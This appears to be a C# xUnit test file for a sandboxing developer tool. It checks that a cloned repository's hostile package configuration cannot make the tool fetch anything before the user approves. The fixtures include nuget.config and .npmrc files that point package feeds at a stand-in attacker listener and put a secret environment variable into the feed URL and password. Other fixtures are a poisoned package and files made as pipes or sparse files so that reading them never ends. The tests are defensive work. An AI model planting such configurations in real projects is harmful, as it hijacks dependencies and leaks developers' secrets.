using System.Text.Json.Nodes;
using Machine.Tool.Sdks;
using Machine.Tool.Packages;
using Machine.Tool.Tests.Commands;
using Machine.Tool.Tests.Packages;

namespace Machine.Attacks.Tests.Repository;

/// <summary>The whole tool, as it is typed in a cloned repository: what it says, and that nothing happened (the acceptance).</summary>
public sealed class HostileStartAttacks : IAsyncLifetime
{
    private const int Unavailable = 125;

    private readonly ToolProcess tool = new();
    private Listener attacker = null!;

    public async ValueTask InitializeAsync()
    {
        attacker = await Listener.StartAsync();
        tool.Write("project/Machinefile", "tools: { dotnet: [\"evil-tool@1.0.0\"] }\nsdk: none\n");
        tool.Write("project/nuget.config", $"""
            <configuration>
              <packageSources>
                <clear />
                <add key="evil" value="{attacker.Address}%MACHINE_ATTACK_TOKEN%/index.json" allowInsecureConnections="true" />
                <add key="here" value="./evil-packages" />
              </packageSources>
              <packageSourceCredentials><evil><add key="Username" value="u" /><add key="ClearTextPassword" value="%MACHINE_ATTACK_TOKEN%" /></evil></packageSourceCredentials>
            </configuration>
            """);
        tool.Write("project/packages.lock.json", """{ "version": 1, "dependencies": { "net10.0": { "Evil": { "type": "Direct", "resolved": "1.0.0" } } } }""");
        PackageFolder.Add(Path.Combine(tool.Project, "evil-packages"), "xunit", "2.999.0", content: "evil");
    }

    public ValueTask DisposeAsync()
    {
        tool.Dispose();
        return attacker.DisposeAsync();
    }

    [Fact]
    public async Task Plan_says_in_plain_words_what_it_asks_for()
    {
        var plan = await RunAsync("plan");

        plan.ExitCode.ShouldBe(0, plan.ToString());
        plan.Output.ShouldContain($"! nuget.config: packages come from {attacker.Address}%MACHINE_ATTACK_TOKEN%/index.json (as written: no variable of this host is put in), unprotected; the guest can send it any name");
        plan.Output.ShouldContain("! nuget.config: allows plain http to ");
        plan.Output.ShouldContain("! nuget.config: reads the folder ./evil-packages (");
        plan.Output.ShouldContain("  nuget.config: the password for evil is a variable or encrypted, and is not used");
        plan.Output.ShouldNotContain("hunter2");
        attacker.Connections.ShouldBeEmpty();
    }

    [Theory]
    [InlineData("start")]
    [InlineData("exec", "--", "true")]
    [InlineData("dotnet", "build")]
    [InlineData("dotnet", "restore")]
    [InlineData("shell")]
    public async Task Nothing_happens_before_a_yes(params string[] command)
    {
        var refused = await RunAsync(command);

        refused.ExitCode.ShouldBe(Unavailable, refused.ToString());
        refused.Error.ShouldContain("reads the folder ./evil-packages");
        refused.Error.ShouldContain("start --approve");
        attacker.Connections.ShouldBeEmpty();
        Directory.Exists(Path.Combine(tool.Home, "packages")).ShouldBeFalse("nothing was fetched");
        Directory.Exists(Path.Combine(tool.Home, "machines")).ShouldBeFalse("no machine was begun");
    }

    [Fact]
    public async Task A_yes_to_the_file_as_it_was_is_none_to_the_file_as_it_is()
    {
        var hash = JsonNode.Parse((await RunAsync("plan", "--json")).Output)!["hash"]!.GetValue<string>();
        tool.Write("project/nuget.config", $"<configuration><packageSources><add key=\"evil\" value=\"{attacker.Index}\" allowInsecureConnections=\"true\"/></packageSources></configuration>");

        var refused = await tool.RunAsync(new Dictionary<string, string> { ["MACHINE_APPROVE"] = hash }, "start");

        refused.ExitCode.ShouldBe(Unavailable, refused.ToString());
        attacker.Connections.ShouldBeEmpty();
    }

    [Fact]
    public async Task A_project_that_names_what_the_user_has_is_not_asked()
    {
        tool.Write("home-of-user/.nuget/NuGet/NuGet.Config", "<configuration><packageSources><add key=\"mine\" value=\"https://feed.example/v3/index.json\"/></packageSources></configuration>");
        tool.Write("project/nuget.config", "<configuration><packageSources><clear/><add key=\"theirs\" value=\"https://feed.example/v3/index.json\"/></packageSources></configuration>");

        var plan = await tool.RunAsync(new Dictionary<string, string> { ["DOTNET_CLI_HOME"] = Path.Combine(Path.GetDirectoryName(tool.Home)!, "home-of-user") }, "plan", "--json");

        JsonNode.Parse(plan.Output)!["widens"]!.GetValue<bool>().ShouldBeFalse(plan.ToString());
    }

    // Pipelines put their caches, and with them the homes of tools, into the checkout.
    [Theory]
    [InlineData("DOTNET_CLI_HOME", ".home", ".home/.nuget/NuGet/NuGet.Config")]
    [InlineData("DOTNET_CLI_HOME", "../project/.home", ".home/.nuget/NuGet/config/more.config")]
    [InlineData("NUGET_COMMON_APPLICATION_DATA", ".common", ".common/NuGet/Config/more.config")]
    [InlineData("NPM_CONFIG_USERCONFIG", ".npmrc", ".npmrc")]
    [InlineData("HOME", ".home", ".home/.nuget/NuGet/NuGet.Config")]
    [InlineData("HOME", ".home", ".home/.npmrc")]
    [InlineData("PIP_CONFIG_FILE", "pip.conf", "pip.conf")]
    [InlineData("NETRC", ".netrc", ".netrc")]
    [InlineData("XDG_CONFIG_HOME", ".config", ".config/pip/pip.conf")]
    [InlineData("XDG_CONFIG_DIRS", "/etc/xdg:.xdg", ".xdg/pip/pip.conf")]
    public async Task What_lies_in_the_project_is_not_the_users_whatever_variable_leads_there(string variable, string value, string file)
    {
        tool.Write("project/nuget.config", "<configuration />");
        tool.Write("project/" + file, file.EndsWith("npmrc", StringComparison.Ordinal)
            ? "registry=" + attacker.Index
            : $"<configuration><packageSources><add key=\"evil\" value=\"{attacker.Index}?%MACHINE_ATTACK_TOKEN%\" allowInsecureConnections=\"true\"/></packageSources></configuration>");

        foreach (var command in new[] { "plan", "start" })
        {
            var refused = await tool.RunAsync(
                new Dictionary<string, string> { ["MACHINE_ATTACK_TOKEN"] = "hunter2", [variable] = value == ".home" ? Path.Combine(Path.GetDirectoryName(tool.Home)!, "project", value) : value }, command);

            refused.ExitCode.ShouldBe(Unavailable, refused.ToString());
            refused.Error.ShouldContain($"{variable} leads into the project");
        }

        attacker.Connections.ShouldBeEmpty();
        Directory.Exists(Path.Combine(tool.Home, "machines")).ShouldBeFalse("no machine was begun");
    }

    // Service accounts have a home that does not exist, for which .NET gives an empty path: what is below that is below the folder one stands in.
    [Theory]
    [InlineData("/nonexistent")]
    [InlineData(".")]
    public async Task Nor_where_the_user_has_no_home_folder(string home)
    {
        Assert.SkipWhen(OperatingSystem.IsWindows(), "the home folder is not in HOME there");
        tool.Write("project/.nuget/NuGet/NuGet.Config", File.ReadAllText(Path.Combine(tool.Project, "nuget.config")));
        tool.Write("project/.npmrc", "registry=" + attacker.Index);

        var plan = await tool.RunAsync(new Dictionary<string, string> { ["HOME"] = home }, "plan", "--json");

        (plan.ExitCode == Unavailable || JsonNode.Parse(plan.Output)!["widens"]!.GetValue<bool>()).ShouldBeTrue(plan.ToString());
        attacker.Connections.ShouldBeEmpty();
    }

    [Fact]
    public async Task Nor_what_lies_in_the_repository_that_holds_the_project()
    {
        tool.Write("project/nuget.config", "<configuration />");
        Directory.CreateDirectory(Path.Combine(Path.GetDirectoryName(tool.Home)!, ".git"));

        var refused = await tool.RunAsync(new Dictionary<string, string> { ["DOTNET_CLI_HOME"] = Path.Combine(Path.GetDirectoryName(tool.Home)!, "caches") }, "plan");

        refused.ExitCode.ShouldBe(Unavailable, refused.ToString());
        refused.Error.ShouldContain("DOTNET_CLI_HOME leads into the project");
    }

    // Whoever pushes a commit would agree to his own plan: approvals and rules for all projects lie there.
    [Fact]
    public async Task Nor_state_of_this_tool_that_the_repository_brings()
    {
        Directory.CreateDirectory(Path.Combine(Path.GetDirectoryName(tool.Home)!, ".git"));

        var refused = await tool.RunAsync("plan");

        refused.ExitCode.ShouldBe(Unavailable, refused.ToString());
        refused.Error.ShouldContain("MACHINE_HOME leads into the project");
    }

    // Opening a pipe waits for a writer; a sparse file of a terabyte has zeros enough.
    [Theory]
    [InlineData("Machinefile", "pipe")]
    [InlineData("nuget.config", "pipe")]
    [InlineData("setup.sh", "pipe")]
    [InlineData("setup.sh", "link to a pipe")]
    [InlineData("setup.sh", "larger than any script")]
    public async Task A_file_that_never_ends_is_refused_by_name(string name, string what)
    {
        Assert.SkipWhen(OperatingSystem.IsWindows(), "there are no such files there");
        tool.Write("project/Machinefile", "sdk: none\nprovision: [setup.sh]\n");
        tool.Write("project/nuget.config", "<configuration />");
        tool.Write("project/setup.sh", "true");
        var path = Path.Combine(tool.Project, name);
        File.Delete(path);
        if (what.StartsWith("larger", StringComparison.Ordinal))
        {
            using var file = File.Create(path);
            file.SetLength(1L << 40);
        }
        else
        {
            var pipe = what == "pipe" ? path : Path.Combine(tool.Project, "pipe");
            await NamedPipe.MakeAsync(pipe);
            if (pipe != path)
            {
                File.CreateSymbolicLink(path, pipe);
            }
        }

        var refused = await RunAsync("plan");

        refused.ExitCode.ShouldBe(Unavailable, refused.ToString());
        refused.Error.ShouldContain(name);
        refused.Error.ShouldContain(what.StartsWith("larger", StringComparison.Ordinal) ? "larger than" : "a pipe, a device or a socket");
    }

    [Fact]
    public async Task Others_that_never_end_are_as_if_they_said_nothing()
    {
        Assert.SkipWhen(OperatingSystem.IsWindows(), "there are no pipes in folders there");
        tool.Write("project/Machinefile", "sdk: none\n");
        tool.Write("project/nuget.config", "<configuration />");
        tool.Write("project/packages.lock.json", "{}");
        string[] names = [".git", "global.json", "Directory.Build.rsp", "Directory.Build.props", "App.csproj", "packages.lock.json"];
        foreach (var name in names)
        {
            await NamedPipe.MakeAsync(Path.Combine(tool.Project, name));
        }

        // One that waits is ended by ToolProcess, which fails the test.
        foreach (var command in new[] { "plan", "doctor", "status", "destroy" })
        {
            (await RunAsync(command)).Error.ShouldNotContain("Unhandled exception");
        }

        (await RunAsync("plan")).ExitCode.ShouldBe(0);

        GlobalJson.TryRead(Path.Combine(tool.Project, "global.json")).ShouldBeNull();
        LockedPackages.Below(tool.Project).ShouldBeEmpty();
    }

    private Task<ToolOutcome> RunAsync(params string[] arguments) =>
        tool.RunAsync(new Dictionary<string, string> { ["MACHINE_ATTACK_TOKEN"] = "hunter2" }, arguments);
}
